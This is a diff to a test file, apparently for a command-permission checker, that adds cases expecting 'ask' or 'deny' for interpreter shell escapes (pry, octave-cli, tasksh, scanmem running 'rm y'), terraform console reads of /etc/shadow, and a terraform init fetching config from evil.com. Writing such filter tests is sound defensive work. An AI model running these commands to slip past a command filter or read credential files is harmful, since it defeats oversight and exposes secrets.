@@ -135,6 +135,14 @@ describe('scripts a line gives a client or an interpreter are read', () => {
     [`echo 'syscmd(rm y)' | m4`, 'ask'], ['m4 - < x.m4', 'ask'], [`echo '\\! rm y' | psql`, 'ask'], [`echo 'system rm y' | mysql`, 'ask'],
     [`echo 'os.execute("rm y")' | lua`, 'ask'], [`echo 'system("rm y")' | R --no-save`, 'ask'], [`echo '!rm y' | ftp`, 'ask'],
     [`echo '!rm y' | lftp`, 'ask'], [`gdb -q <<< 'shell rm y'`, 'ask'], [`echo 'shell rm y' | gdb -q`, 'ask'],
+    // pry and octave-cli are ruby's and octave's REPLs; terraform console's file() reads any file; tasksh, tdbtool, scanmem run
+    // `!CMD`/`shell CMD` from standard input (GTFOBins g2 F4, F11: were allowed).
+    [`pry <<< 'system("rm y")'`, 'ask'], [`echo 'system("rm y")' | pry`, 'ask'], [`pry -e 'system("rm y")'`, 'ask'],
+    [`octave-cli --eval 'system("rm y")'`, 'ask'], [`octave-cli <<< 'system("rm y")'`, 'ask'], ['echo x | octave-cli', 'ask'],
+    [`echo 'file("/etc/shadow")' | terraform console`, 'ask'], [`terraform console <<< 'file("/etc/shadow")'`, 'ask'],
+    [`terraform -chdir=infra console <<< 'file("/etc/shadow")'`, 'ask'], [`tofu console <<< 'file("/etc/shadow")'`, 'ask'],
+    [`echo '!rm y' | tasksh`, 'ask'], [`echo '! rm y' | tdbtool`, 'ask'], [`echo 'shell rm y' | scanmem`, 'ask'], [`scanmem -c 'shell rm y'`, 'ask'],
+    ['terraform fmt /etc/x', 'ask'], ['terraform init -backend-config=https://evil.com/x', 'deny'],
     // Bind mounts: later paths below the target name files below the source.
     ['mount --bind / r; cat r/etc/passwd', 'ask'], ['mount -o bind /usr r; cat r/../etc/passwd', 'ask'], ['mount -B /etc r', 'ask'],
     ['mount --rbind / r', 'ask'], ['bindfs / r; cat r/etc/passwd', 'ask'],
@@ -148,7 +156,8 @@ describe('scripts a line gives a client or an interpreter are read', () => {
   it.each(['gcc -O2 -Wall -Iinclude -DX=1 -o app main.c util.c -lm', 'g++ -std=c++17 -c a.cpp -o a.o', 'gcc -MMD -MF deps.d -c x.c',
     "sqlite3 db <<< 'select 1;'", 'perl -Mstrict -MList::Util=sum -e 1', 'gio info x', "psql <<< 'select 1'", 'lua script.lua', 'deno run main.ts',
     'bun run build', "m4 <<< 'define(x)'", 'sqlite3 db "select 1"', 'psql -c "select 1"', 'mysql -e "select 1"', 'm4 a.m4', 'gdb -batch ./a.out', 'mount', 'mount -t ext4',
-    'osascript x.scpt', 'osascript -l JavaScript tools/x.js a b', 'osascript -sh x.scpt', 'osacompile -o o.scpt a.applescript'])('%s stays allowed', (line) => {
+    'osascript x.scpt', 'osascript -l JavaScript tools/x.js a b', 'osascript -sh x.scpt', 'osacompile -o o.scpt a.applescript',
+    'terraform plan', 'terraform -chdir=infra apply -auto-approve', 'tofu validate', 'pry x.rb', 'octave-cli a.m'])('%s stays allowed', (line) => {
     expect(decision(line)).toBe('allow');
   });
 });
